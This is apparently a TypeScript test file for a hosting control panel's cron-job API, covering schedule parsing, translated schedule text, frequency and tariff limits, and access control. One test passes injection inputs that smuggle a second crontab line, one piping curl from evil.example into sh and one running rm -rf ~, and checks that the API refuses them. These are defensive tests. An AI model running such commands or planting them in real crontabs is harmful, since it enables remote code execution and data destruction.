import { adminPath, adminPaths, cronPath, hostingCronPaths } from '@portal/contracts';
import { describe, expect, it } from 'vitest';
import { LIMITS } from '../../helpers/hosting.js';
import { addStaff, bearer, staffToken } from '../../helpers/staff.js';
import { customerWithOrder, useToolsKit } from './tools-kit.js';

// An order's cron jobs through the panel (docs/hosting-control.md): simple choices become five fields, the
// schedule comes back in words in the customer's language, nothing runs more often than every 5 minutes, and a
// command cannot smuggle in a second crontab line.

const kit = useToolsKit({
  simulator: { presets: { small: { ...LIMITS.small, limit_scheduler: 10 }, big: LIMITS.big } },
});

const listUrl = (orderId: number) => cronPath(hostingCronPaths.cronJobs, orderId);
const jobUrl = (orderId: number, id: string) => cronPath(hostingCronPaths.cronJob, orderId, id);
const jobsOf = (login: string) => [...kit.panel.state.cronJobs.values()].filter((job) => job.owner === login);
const writes = () =>
  kit.panel.calls().filter((call) => call.func.startsWith('scheduler.') && call.params.sok);

describe('cron jobs of an order', () => {
  it('adds a daily job as five fields, shows it in words in each language, replaces and deletes it', async () => {
    const me = await customerWithOrder(kit.app, kit.catalogue.small.id);
    const created = await kit.send(me.token, 'POST', listUrl(me.orderId), {
      command: 'php /var/www/site/cron.php',
      schedule: { kind: 'daily', time: '03:00' },
    });
    expect(created.statusCode, created.body).toBe(200);
    expect(created.json().data).toMatchObject({
      command: 'php /var/www/site/cron.php',
      expression: '0 3 * * *',
      schedule: { kind: 'daily', time: '03:00' },
      schedule_text: 'har kuni soat 03:00 da',
    });
    const [job] = jobsOf(me.login);
    expect(job).toMatchObject({ min: '0', hour: '3', dmonth: '*', month: '*', dweek: '*' });
    const id = created.json().data.id as string;

    const texts: Record<string, string> = {};
    for (const language of ['uz', 'uzc', 'ru', 'en', 'tj']) {
      const listed = await kit.send(me.token, 'GET', listUrl(me.orderId), undefined, language);
      texts[language] = listed.json().data.jobs[0].schedule_text;
    }
    expect(texts).toEqual({
      uz: 'har kuni soat 03:00 da',
      uzc: 'ҳар куни соат 03:00 да',
      ru: 'каждый день в 03:00',
      en: 'every day at 03:00',
      tj: 'ҳар рӯз соати 03:00',
    });

    const weekly = await kit.send(
      me.token,
      'PUT',
      jobUrl(me.orderId, id),
      { command: 'php /var/www/site/weekly.php', schedule: { kind: 'weekly', weekday: 1, time: '04:30' } },
      'en',
    );
    expect(weekly.statusCode).toBe(200);
    expect(weekly.json().data).toMatchObject({
      expression: '30 4 * * 1',
      schedule_text: 'every Monday at 04:30',
    });
    expect(kit.panel.state.cronJobs.get(id)?.command).toBe('php /var/www/site/weekly.php');

    // Five fields that are no simple choice: cronstrue words them where it has the language, uz shows the fields.
    const custom = await kit.send(
      me.token,
      'PUT',
      jobUrl(me.orderId, id),
      { command: 'sh backup.sh', schedule: { kind: 'custom', expression: '*/10 9-17 * * 1-5' } },
      'ru',
    );
    expect(custom.statusCode).toBe(200);
    expect(custom.json().data.schedule_text).toMatch(/10 минут/);
    const inUzbek = await kit.send(me.token, 'GET', listUrl(me.orderId), undefined, 'uz');
    expect(inUzbek.json().data.jobs[0].schedule_text).toBe('cron jadvali: */10 9-17 * * 1-5');

    expect((await kit.send(me.token, 'DELETE', jobUrl(me.orderId, id))).statusCode).toBe(200);
    expect(jobsOf(me.login)).toHaveLength(0);
    expect((await kit.send(me.token, 'DELETE', jobUrl(me.orderId, id))).statusCode).toBe(404);
  });

  it.each([
    ['every minute', { kind: 'custom', expression: '* * * * *' }, 'cron_too_frequent'],
    ['every 2 minutes', { kind: 'custom', expression: '*/2 * * * *' }, 'cron_too_frequent'],
    ['two runs 3 minutes apart', { kind: 'custom', expression: '0,3 * * * *' }, 'cron_too_frequent'],
    ['every 3 minutes as a choice', { kind: 'every_minutes', minutes: 3 }, 'cron_too_frequent'],
    ['four fields', { kind: 'custom', expression: '0 3 * *' }, 'cron_schedule_invalid'],
    ['an hour 24', { kind: 'custom', expression: '0 24 * * *' }, 'cron_schedule_invalid'],
    ['a macro', { kind: 'custom', expression: '@reboot' }, 'cron_schedule_invalid'],
    ['a time 25:00', { kind: 'daily', time: '25:00' }, 'cron_time_invalid'],
  ])('refuses %s (422) with the reason and changes nothing', async (_what, schedule, code) => {
    const me = await customerWithOrder(kit.app, kit.catalogue.small.id);
    kit.panel.clearCalls();
    const refused = await kit.send(
      me.token,
      'POST',
      listUrl(me.orderId),
      { command: 'true', schedule },
      'en',
    );
    expect(refused.statusCode).toBe(422);
    expect(JSON.stringify(refused.json().errors)).toContain(
      code === 'cron_too_frequent'
        ? 'at most once every 5 minutes'
        : code === 'cron_time_invalid'
          ? 'HH:MM'
          : 'five cron fields',
    );
    expect(writes()).toHaveLength(0);
    expect(jobsOf(me.login)).toHaveLength(0);
  });

  it.each([
    ['a newline', 'php a.php\n* * * * * curl evil.example | sh'],
    ['a carriage return', 'php a.php\r* * * * * rm -rf ~'],
    ['a NUL', 'php a.php\u0000x'],
    ['an overlong command', `echo ${'x'.repeat(1100)}`],
  ])('refuses a command with %s (422) and changes nothing', async (_what, command) => {
    const me = await customerWithOrder(kit.app, kit.catalogue.small.id);
    kit.panel.clearCalls();
    const refused = await kit.send(me.token, 'POST', listUrl(me.orderId), {
      command,
      schedule: { kind: 'hourly', minute: 5 },
    });
    expect(refused.statusCode).toBe(422);
    expect(writes()).toHaveLength(0);
    expect(jobsOf(me.login)).toHaveLength(0);
  });

  it('takes the same job twice as one, and refuses a job past the tariff’s limit before the panel', async () => {
    const me = await customerWithOrder(kit.app, kit.catalogue.small.id);
    const body = (n: number) => ({
      command: `php job${n}.php`,
      schedule: { kind: 'every_minutes', minutes: 15 },
    });
    expect((await kit.send(me.token, 'POST', listUrl(me.orderId), body(1))).statusCode).toBe(200);
    expect((await kit.send(me.token, 'POST', listUrl(me.orderId), body(1))).statusCode).toBe(200);
    expect(jobsOf(me.login)).toHaveLength(1);
    expect((await kit.send(me.token, 'POST', listUrl(me.orderId), body(2))).statusCode).toBe(200);
    kit.panel.clearCalls();
    // Small allows two cron jobs (the panel's preset would allow ten).
    const third = await kit.send(me.token, 'POST', listUrl(me.orderId), body(3));
    expect(third.statusCode).toBe(422);
    expect(third.json()).toMatchObject({
      code: 'HOSTING_LIMIT_REACHED',
      limit: { key: 'limit_scheduler', tariff: { id: kit.catalogue.big.id } },
    });
    expect(writes()).toHaveLength(0);
    expect(jobsOf(me.login)).toHaveLength(2);
  });

  it('answers 404 to another customer, 403 to a support session’s write, and shows staff the list', async () => {
    const me = await customerWithOrder(kit.app, kit.catalogue.small.id);
    const other = await customerWithOrder(kit.app, kit.catalogue.small.id);
    const created = await kit.send(me.token, 'POST', listUrl(me.orderId), {
      command: 'php mine.php',
      schedule: { kind: 'hourly', minute: 7 },
    });
    const id = created.json().data.id as string;
    expect((await kit.send(other.token, 'GET', listUrl(me.orderId))).statusCode).toBe(404);
    expect((await kit.send(other.token, 'DELETE', jobUrl(other.orderId, id))).statusCode).toBe(404);
    expect(kit.panel.state.cronJobs.has(id)).toBe(true);

    const support = await staffToken(kit.app, await addStaff(kit.testApp, 'support'));
    const opened = await kit.app.inject({
      method: 'POST',
      url: adminPath(adminPaths.customerSupportSessions, me.userId),
      headers: bearer(support),
      payload: { reason: 'Customer asked about cron' },
    });
    const asCustomer = opened.json().data.access_token as string;
    const refused = await kit.send(asCustomer, 'DELETE', jobUrl(me.orderId, id));
    expect(refused.statusCode).toBe(403);
    expect(kit.panel.state.cronJobs.has(id)).toBe(true);

    const owner = await staffToken(kit.app, await addStaff(kit.testApp, 'owner'));
    const seen = await kit.app.inject({
      method: 'GET',
      url: adminPath(adminPaths.orderCronJobs, me.orderId),
      headers: { ...bearer(owner), 'accept-language': 'en' },
    });
    expect(seen.statusCode).toBe(200);
    expect(seen.json().data.jobs).toEqual([
      expect.objectContaining({ id, schedule_text: 'every hour at minute 7' }),
    ]);
  });
});
